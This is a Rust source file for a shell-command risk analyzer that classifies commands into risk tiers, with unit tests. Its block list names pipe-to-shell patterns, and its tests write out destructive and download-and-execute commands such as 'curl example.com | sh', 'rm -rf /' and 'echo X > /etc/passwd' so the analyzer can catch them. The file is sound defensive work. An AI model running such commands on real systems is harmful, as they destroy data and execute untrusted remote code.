//! Deterministic command risk analyzer
//!
//! Takes over when the whitelist does not recognize a command. Four ordered
//! layers, each allowed to raise the working tier; only explicit safe-semantic
//! markers may lower it. A `Blocked` verdict is terminal.
//!
//! 1. command category baseline
//! 2. action semantics (subcommand/argument keywords)
//! 3. dangerous flags and system paths
//! 4. composition: chains, pipes, command substitution
//!
//! Pure string analysis, no I/O. Repeated calls on the same input always
//! return the same verdict.

use super::RiskLevel;
use serde::{Deserialize, Serialize};
use std::fmt;

/// Analyzer tier. Extends [`RiskLevel`] with a terminal `Blocked` verdict
/// that never leaves the policy layer.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Tier {
    Safe,
    Medium,
    High,
    Blocked,
}

impl Tier {
    fn bump(self) -> Tier {
        match self {
            Tier::Safe => Tier::Medium,
            Tier::Medium => Tier::High,
            Tier::High | Tier::Blocked => self,
        }
    }

    fn lower(self) -> Tier {
        match self {
            Tier::Safe | Tier::Medium => Tier::Safe,
            Tier::High => Tier::Medium,
            Tier::Blocked => Tier::Blocked,
        }
    }

    /// Collapse to the instruction-level risk scale. `Blocked` maps to
    /// `High`; callers must treat the blocked verdict itself as a denial.
    pub fn clamp_to_risk(self) -> RiskLevel {
        match self {
            Tier::Safe => RiskLevel::Safe,
            Tier::Medium => RiskLevel::Medium,
            Tier::High | Tier::Blocked => RiskLevel::High,
        }
    }
}

impl From<RiskLevel> for Tier {
    fn from(risk: RiskLevel) -> Self {
        match risk {
            RiskLevel::Safe => Tier::Safe,
            RiskLevel::Medium => Tier::Medium,
            RiskLevel::High => Tier::High,
        }
    }
}

impl fmt::Display for Tier {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Tier::Safe => "safe",
            Tier::Medium => "medium",
            Tier::High => "high",
            Tier::Blocked => "blocked",
        };
        f.write_str(s)
    }
}

/// Final analyzer verdict. The reason names the strongest trigger and is
/// surfaced verbatim in audit output.
#[derive(Debug, Clone)]
pub struct RiskAssessment {
    pub tier: Tier,
    pub reason: String,
}

// Layer 1: command category knowledge base.
const CATEGORIES: &[(&str, Tier, &[&str])] = &[
    (
        "query",
        Tier::Safe,
        &[
            "cat", "less", "head", "tail", "grep", "find", "which", "whereis", "whoami",
            "hostname", "uname", "df", "du", "free", "uptime", "top", "ps", "netstat", "ss",
            "ip", "ifconfig", "ping", "dig", "nslookup", "wc", "file", "stat", "lsof", "env",
            "printenv", "date", "cal", "ls", "ll", "pwd", "id", "w", "who", "last", "dmesg",
            "lscpu", "lsmem", "lsblk", "lspci", "lsusb", "history", "printf", "test",
        ],
    ),
    (
        "text_processing",
        Tier::Safe,
        &[
            "awk", "sed", "sort", "uniq", "cut", "tr", "diff", "comm", "jq", "yq", "base64",
            "md5sum", "sha256sum", "rev", "column", "fmt", "tee",
        ],
    ),
    (
        "package_manager",
        Tier::Medium,
        &[
            "npm", "yarn", "pnpm", "pip", "pip3", "gem", "cargo", "go", "brew", "apt",
            "apt-get", "dnf", "yum", "pacman", "apk", "composer", "bundler", "npx", "uv",
        ],
    ),
    (
        "service_management",
        Tier::Medium,
        &[
            "systemctl", "service", "nginx", "apache2", "httpd", "mysql", "mysqld",
            "redis-cli", "redis-server", "mongod", "mongosh", "psql", "pg_ctl",
            "supervisorctl", "pm2", "forever",
        ],
    ),
    (
        "container",
        Tier::Medium,
        &[
            "docker", "docker-compose", "podman", "kubectl", "helm", "crictl", "nerdctl",
            "k9s",
        ],
    ),
    ("version_control", Tier::Safe, &["git", "svn", "hg"]),
    (
        "language_runtime",
        Tier::Safe,
        &[
            "node", "python", "python3", "ruby", "perl", "php", "java", "javac", "rustc",
            "gcc", "g++", "clang", "make", "cmake", "swift", "dotnet", "deno", "bun",
        ],
    ),
    (
        "network_tools",
        Tier::Medium,
        &[
            "curl", "wget", "ssh", "scp", "rsync", "sftp", "nc", "netcat", "nmap",
            "traceroute", "tracepath", "mtr", "telnet", "host",
        ],
    ),
    (
        "monitoring",
        Tier::Safe,
        &[
            "vmstat", "iostat", "sar", "mpstat", "pidstat", "dstat", "htop", "iotop",
            "nethogs", "iftop", "nmon", "perf", "strace", "ltrace", "tcpdump",
        ],
    ),
    (
        "archive",
        Tier::Medium,
        &["tar", "gzip", "gunzip", "zip", "unzip", "bzip2", "xz", "7z"],
    ),
    (
        "destructive",
        Tier::High,
        &["rm", "rmdir", "kill", "killall", "pkill", "shred", "dd", "mkfs"],
    ),
    (
        "file_write",
        Tier::Medium,
        &["touch", "mkdir", "cp", "mv", "ln", "chmod", "chown"],
    ),
];

// Layer 2: semantic keyword sets.
const SAFE_SEMANTICS: &[&str] = &[
    "--version", "--help", "-v", "-h", "version", "status", "list", "show", "info", "get",
    "describe", "inspect", "check", "ping", "health", "top", "log", "logs", "view", "dump",
    "export", "search", "doctor", "history", "blame", "shortlog", "images", "stats", "port",
    "events", "freeze", "outdated", "plan", "validate", "lint", "verify",
];

const INFO_ONLY_FLAGS: &[&str] = &["--version", "--help", "-v", "-h", "-V", "version", "help"];

const WRITE_SEMANTICS: &[&str] = &[
    "install", "add", "create", "mkdir", "touch", "write", "set", "update", "upgrade",
    "build", "init", "apply", "patch", "push", "commit", "enable", "pull", "clone", "fetch",
    "start", "run", "exec", "scale", "rollout",
];

const DESTRUCTIVE_SEMANTICS: &[&str] = &[
    "remove", "delete", "rm", "drop", "purge", "uninstall", "kill", "stop", "destroy",
    "reset", "rollback", "prune", "clean", "wipe", "truncate", "disable", "drain", "cordon",
    "evict", "down", "mask", "unmask",
];

// Layer 3: flags and paths.
const FORCE_FLAGS: &[&str] = &["-rf", "-fr", "--force", "-9", "--purge"];
const BROAD_FLAGS: &[&str] = &["--recursive", "--all", "-R"];
const SAFE_FLAGS: &[&str] = &[
    "--dry-run", "--check", "--diff", "--simulate", "--no-act", "-n", "--whatif",
    "--preview",
];

const SYSTEM_PATH_PREFIXES: &[&str] = &[
    "/etc", "/usr", "/var", "/boot", "/sys", "/proc", "/bin", "/sbin", "/lib", "/root",
    "/dev",
];

// Layer 4: composition.
const SAFE_PIPE_COMMANDS: &[&str] = &[
    "grep", "egrep", "fgrep", "awk", "sed", "sort", "uniq", "wc", "head", "tail", "cut",
    "tr", "tee", "less", "more", "cat", "jq", "yq", "column", "fmt", "rev", "base64",
    "xargs",
];

const BLOCKED_PIPE_PATTERNS: &[&str] = &[
    "| bash", "| sh", "| zsh", "| fish", "| sudo", "| su ", "| python -c", "| python3 -c",
    "| perl -e", "| ruby -e", "| dd ", "| mkfs", "| xargs rm",
];

/// Analyze one shell command string.
pub fn analyze_command(command: &str) -> RiskAssessment {
    let command = command.trim();
    if command.is_empty() {
        return RiskAssessment {
            tier: Tier::High,
            reason: "empty command".to_string(),
        };
    }

    if first_word(command) == "echo" {
        return analyze_echo(command);
    }

    let lowered = command.to_ascii_lowercase();
    for pattern in BLOCKED_PIPE_PATTERNS {
        if lowered.contains(pattern) {
            return RiskAssessment {
                tier: Tier::Blocked,
                reason: format!("forbidden pipe pattern '{}'", pattern.trim()),
            };
        }
    }

    if command.contains("$(") || command.contains('`') {
        return RiskAssessment {
            tier: Tier::Blocked,
            reason: "command substitution is not allowed here".to_string(),
        };
    }

    let mut overall = Tier::Safe;
    let mut reasons: Vec<String> = Vec::new();

    for segment in split_on_unquoted(command, &["&&", "||", ";"]) {
        let (tier, reason) = analyze_piped_segment(&segment);
        if tier > overall {
            overall = tier;
            reasons = vec![reason];
        }
        if overall == Tier::Blocked {
            break;
        }
    }

    RiskAssessment {
        reason: format!(
            "{} -> {}",
            reasons.first().map(String::as_str).unwrap_or("no trigger"),
            overall
        ),
        tier: overall,
    }
}

/// One chain segment, possibly containing pipes.
fn analyze_piped_segment(segment: &str) -> (Tier, String) {
    let stages = split_on_unquoted(segment, &["|"]);
    let mut iter = stages.into_iter();
    let head = match iter.next() {
        Some(h) => h,
        None => return (Tier::Medium, "empty segment".to_string()),
    };

    let (mut tier, mut reason) = analyze_simple(&head);

    for stage in iter {
        let stage = stage.trim().to_string();
        if stage.is_empty() {
            continue;
        }
        let cmd = first_word(&stage);
        if cmd == "xargs" {
            if let Some(wrapped) = xargs_wrapped_command(&stage) {
                let (inner, inner_reason) = analyze_simple(&wrapped);
                if inner > tier {
                    tier = inner;
                    reason = format!("xargs wraps risky command: {inner_reason}");
                }
            }
        } else if !SAFE_PIPE_COMMANDS.contains(&cmd.as_str()) {
            tier = tier.bump();
            reason = format!("pipe into non-safe command '{cmd}'");
        }
        if tier == Tier::Blocked {
            break;
        }
    }

    (tier, reason)
}

/// Layers 1-3 on a single pipeline-free command.
fn analyze_simple(segment: &str) -> (Tier, String) {
    let mut tokens = split_tokens(segment);
    if tokens.is_empty() {
        return (Tier::Medium, "empty segment".to_string());
    }

    // A sudo/doas prefix raises the final baseline by one tier.
    let mut privileged = false;
    if tokens[0] == "sudo" || tokens[0] == "doas" {
        privileged = true;
        tokens.remove(0);
        if tokens.is_empty() {
            return (Tier::High, "bare privilege escalation".to_string());
        }
    }

    let base = basename(&tokens[0]);
    let rest: Vec<String> = tokens[1..].iter().map(|t| t.to_ascii_lowercase()).collect();

    // Layer 1
    let (category, mut tier) = category_baseline(&base);
    let mut reason = format!("{category} command '{base}'");

    // Layer 2
    if !rest.is_empty() && rest.iter().all(|t| INFO_ONLY_FLAGS.contains(&t.as_str())) {
        tier = Tier::Safe;
        reason = format!("'{base}' version/help query");
    } else {
        for token in &rest {
            if SAFE_SEMANTICS.contains(&token.as_str()) {
                tier = tier.lower();
                reason = format!("{category} + {token} (read-only semantics)");
            }
        }
        for token in &rest {
            if DESTRUCTIVE_SEMANTICS.contains(&token.as_str()) {
                tier = tier.max(Tier::High);
                reason = format!("{category} + {token} semantics");
            }
        }
        for token in &rest {
            if WRITE_SEMANTICS.contains(&token.as_str()) && tier < Tier::Medium {
                tier = Tier::Medium;
                reason = format!("{category} + {token} (write semantics)");
            }
        }
    }

    // Layer 3
    if rest.iter().any(|t| t == "--no-preserve-root") {
        return (Tier::Blocked, "--no-preserve-root".to_string());
    }

    for token in &rest {
        if SAFE_FLAGS.contains(&token.as_str()) {
            tier = tier.lower();
            reason = format!("{reason}, {token} lowers risk");
        }
    }

    let mut has_force = false;
    for token in &rest {
        if FORCE_FLAGS.contains(&token.as_str()) || is_combined_force_flag(token) {
            has_force = true;
            tier = tier.bump();
            reason = format!("dangerous flag {token}");
        } else if BROAD_FLAGS.contains(&token.as_str()) {
            tier = tier.bump();
            reason = format!("broad flag {token}");
        }
    }

    for token in &rest {
        if token == "/" {
            return (Tier::Blocked, format!("{reason}, targets root path /"));
        }
        if token.starts_with('/') && is_system_path(token) {
            if has_force {
                return (
                    Tier::Blocked,
                    format!("{reason}, force flag against system path {token}"),
                );
            }
            tier = tier.max(Tier::High);
            reason = format!("{reason}, system path {token}");
        }
    }

    if privileged {
        tier = tier.bump();
        reason = format!("sudo + {reason}");
    }

    (tier, reason)
}

/// The `echo` config-file-generation idiom: `$()` and `>`/`>>` are permitted
/// as long as the redirect target stays out of system directories. Chains,
/// backticks and backgrounding stay forbidden.
fn analyze_echo(command: &str) -> RiskAssessment {
    for pattern in ["&&", "||", ";", "`", "${"] {
        if command.contains(pattern) {
            return RiskAssessment {
                tier: Tier::Blocked,
                reason: format!("'{pattern}' is not allowed in echo commands"),
            };
        }
    }
    // Lone '&' (backgrounding); '&' only ever appears bare here since '&&' was
    // rejected above.
    if command.contains('&') {
        return RiskAssessment {
            tier: Tier::Blocked,
            reason: "backgrounding is not allowed in echo commands".to_string(),
        };
    }

    if let Some(target) = redirect_target(command) {
        if target == "/" || is_system_path(&target) {
            return RiskAssessment {
                tier: Tier::Blocked,
                reason: format!("echo redirect into system path {target}"),
            };
        }
    }

    // Substituted commands keep their own risk.
    let mut tier = Tier::Safe;
    let mut reason = "echo config-file idiom".to_string();
    for inner in substituted_commands(command) {
        let assessment = analyze_command(&inner);
        if assessment.tier > tier {
            tier = assessment.tier;
            reason = format!("substituted command: {}", assessment.reason);
        }
    }

    if tier == Tier::Blocked {
        return RiskAssessment {
            tier: Tier::Blocked,
            reason,
        };
    }
    RiskAssessment { tier, reason }
}

fn category_baseline(base: &str) -> (&'static str, Tier) {
    for &(name, tier, commands) in CATEGORIES {
        if commands.contains(&base) {
            return (name, tier);
        }
    }
    ("unknown", Tier::Medium)
}

fn first_word(command: &str) -> String {
    basename(command.split_whitespace().next().unwrap_or(""))
}

fn basename(token: &str) -> String {
    token.rsplit('/').next().unwrap_or(token).to_string()
}

fn is_system_path(arg: &str) -> bool {
    SYSTEM_PATH_PREFIXES
        .iter()
        .any(|p| arg == *p || arg.starts_with(&format!("{p}/")))
}

/// Combined short flags such as `-fr`, `-rfv` count as the force flag.
fn is_combined_force_flag(token: &str) -> bool {
    if !token.starts_with('-') || token.starts_with("--") {
        return false;
    }
    let chars: Vec<char> = token[1..].chars().collect();
    (chars.contains(&'r') && chars.contains(&'f')) || chars.contains(&'9')
}

/// Extract the command wrapped by `xargs`, skipping xargs' own options.
fn xargs_wrapped_command(stage: &str) -> Option<String> {
    let tokens = split_tokens(stage);
    let mut parts: Vec<String> = Vec::new();
    let mut skip_next = false;
    for token in tokens.iter().skip(1) {
        if skip_next {
            skip_next = false;
            continue;
        }
        if ["-I", "-n", "-P", "-L", "-s", "-d"].contains(&token.as_str()) {
            skip_next = true;
            continue;
        }
        if token.starts_with('-') && parts.is_empty() {
            continue;
        }
        parts.push(token.clone());
    }
    if parts.is_empty() {
        None
    } else {
        Some(parts.join(" "))
    }
}

fn redirect_target(command: &str) -> Option<String> {
    let bytes = command.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'>' {
            let mut j = i + 1;
            if j < bytes.len() && bytes[j] == b'>' {
                j += 1;
            }
            let rest = command[j..].trim_start();
            let target: String = rest
                .chars()
                .take_while(|c| !c.is_whitespace())
                .collect();
            if !target.is_empty() {
                return Some(target);
            }
        }
        i += 1;
    }
    None
}

fn substituted_commands(command: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = command;
    while let Some(start) = rest.find("$(") {
        let after = &rest[start + 2..];
        match after.find(')') {
            Some(end) => {
                out.push(after[..end].to_string());
                rest = &after[end + 1..];
            }
            None => break,
        }
    }
    out
}

/// Split a command on the given operators, respecting single and double
/// quotes. Operators are matched longest-first at each position.
pub fn split_on_unquoted(command: &str, operators: &[&str]) -> Vec<String> {
    let mut parts = Vec::new();
    let mut current = String::new();
    let chars: Vec<char> = command.chars().collect();
    let mut in_single = false;
    let mut in_double = false;
    let mut i = 0;

    'outer: while i < chars.len() {
        let c = chars[i];
        if c == '\'' && !in_double {
            in_single = !in_single;
        } else if c == '"' && !in_single {
            in_double = !in_double;
        }
        if !in_single && !in_double {
            // A bare '|' operator must not split a '||' pair.
            if operators.contains(&"|")
                && !operators.contains(&"||")
                && c == '|'
                && chars.get(i + 1) == Some(&'|')
            {
                current.push('|');
                current.push('|');
                i += 2;
                continue 'outer;
            }
            for op in operators {
                let op_chars: Vec<char> = op.chars().collect();
                if chars[i..].starts_with(&op_chars) {
                    parts.push(current.trim().to_string());
                    current = String::new();
                    i += op_chars.len();
                    continue 'outer;
                }
            }
        }
        current.push(c);
        i += 1;
    }
    parts.push(current.trim().to_string());
    parts.retain(|p| !p.is_empty());
    parts
}

/// Whitespace tokenizer with quote awareness, in the spirit of `shlex`.
pub fn split_tokens(segment: &str) -> Vec<String> {
    let mut tokens = Vec::new();
    let mut current = String::new();
    let mut in_single = false;
    let mut in_double = false;

    for c in segment.chars() {
        match c {
            '\'' if !in_double => in_single = !in_single,
            '"' if !in_single => in_double = !in_double,
            c if c.is_whitespace() && !in_single && !in_double => {
                if !current.is_empty() {
                    tokens.push(std::mem::take(&mut current));
                }
            }
            c => current.push(c),
        }
    }
    if !current.is_empty() {
        tokens.push(current);
    }
    tokens
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_verdicts() {
        for cmd in [
            "cat /tmp/x",
            "rm -rf /",
            "terraform apply",
            "echo hi > notes.txt",
        ] {
            let a = analyze_command(cmd);
            let b = analyze_command(cmd);
            assert_eq!(a.tier, b.tier, "verdict changed for {cmd}");
        }
    }

    #[test]
    fn query_commands_are_safe() {
        assert_eq!(analyze_command("cat /tmp/file.txt").tier, Tier::Safe);
        assert_eq!(analyze_command("df -h").tier, Tier::Safe);
    }

    #[test]
    fn unknown_command_defaults_to_medium() {
        assert_eq!(analyze_command("terraform refresh").tier, Tier::Medium);
    }

    #[test]
    fn version_query_is_safe_even_for_risky_categories() {
        assert_eq!(analyze_command("kubectl version").tier, Tier::Safe);
        assert_eq!(analyze_command("rm --help").tier, Tier::Safe);
    }

    #[test]
    fn destructive_semantics_raise_to_high() {
        assert_eq!(analyze_command("systemctl stop nginx").tier, Tier::High);
        assert_eq!(analyze_command("helm uninstall myrelease").tier, Tier::High);
    }

    #[test]
    fn service_stop_reason_names_trigger() {
        let a = analyze_command("systemctl stop nginx");
        assert!(a.reason.contains("stop"), "reason was: {}", a.reason);
    }

    #[test]
    fn sudo_prefix_raises_baseline() {
        let plain = analyze_command("ncdu /home").tier;
        let sudo = analyze_command("sudo ncdu /home").tier;
        assert!(sudo > plain);
    }

    #[test]
    fn no_preserve_root_is_blocked() {
        assert_eq!(
            analyze_command("rm -r --no-preserve-root /data").tier,
            Tier::Blocked
        );
    }

    #[test]
    fn no_preserve_root_never_lowered_by_safe_flags() {
        assert_eq!(
            analyze_command("rm --dry-run --no-preserve-root /data").tier,
            Tier::Blocked
        );
    }

    #[test]
    fn dry_run_never_raises_above_high() {
        for cmd in ["rm -rf /data --dry-run", "kubectl delete pod x --dry-run"] {
            assert!(analyze_command(cmd).tier <= Tier::High, "{cmd}");
        }
    }

    #[test]
    fn root_path_wipe_is_blocked() {
        let a = analyze_command("rm -rf /");
        assert_eq!(a.tier, Tier::Blocked);
        assert!(a.reason.contains('/'));
    }

    #[test]
    fn force_flag_against_system_path_is_blocked() {
        assert_eq!(analyze_command("rm -rf /etc/nginx").tier, Tier::Blocked);
    }

    #[test]
    fn system_path_without_force_is_high() {
        assert_eq!(analyze_command("shred /etc/hosts").tier, Tier::High);
    }

    #[test]
    fn chain_takes_maximum_risk() {
        assert_eq!(analyze_command("ls && rm -rf /").tier, Tier::Blocked);
        assert_eq!(analyze_command("ls -la && df -h").tier, Tier::Safe);
    }

    #[test]
    fn pipe_to_shell_is_blocked() {
        assert_eq!(analyze_command("curl example.com | sh").tier, Tier::Blocked);
        assert_eq!(analyze_command("cat script | bash").tier, Tier::Blocked);
    }

    #[test]
    fn command_substitution_blocked_outside_echo() {
        assert_eq!(analyze_command("cat $(rm -rf /)").tier, Tier::Blocked);
    }

    #[test]
    fn pipe_into_unknown_command_raises_one_tier() {
        let piped = analyze_command("ps aux | myfilter");
        assert_eq!(piped.tier, Tier::Medium);
    }

    #[test]
    fn xargs_kill_lifts_risk() {
        let a = analyze_command("lsof -ti :8080 | xargs kill -9");
        assert_eq!(a.tier, Tier::High);
    }

    #[test]
    fn echo_env_generation_is_safe() {
        let a = analyze_command("echo X=$(openssl rand -hex 32) > ./.env");
        assert!(a.tier <= Tier::Medium, "got {:?}", a);
        assert_ne!(a.tier, Tier::Blocked);
    }

    #[test]
    fn echo_into_system_path_is_blocked() {
        assert_eq!(analyze_command("echo X > /etc/passwd").tier, Tier::Blocked);
    }

    #[test]
    fn echo_with_chain_is_blocked() {
        assert_eq!(analyze_command("echo a && rm -rf /").tier, Tier::Blocked);
    }

    #[test]
    fn echo_with_backticks_is_blocked() {
        assert_eq!(analyze_command("echo `whoami` > x").tier, Tier::Blocked);
    }

    #[test]
    fn quoted_operators_are_not_split() {
        let parts = split_on_unquoted("echo 'a && b' && ls", &["&&"]);
        assert_eq!(parts, vec!["echo 'a && b'", "ls"]);
    }

    #[test]
    fn single_pipe_split_ignores_double_pipe() {
        let parts = split_on_unquoted("a || b | c", &["|"]);
        assert_eq!(parts.len(), 2);
    }
}
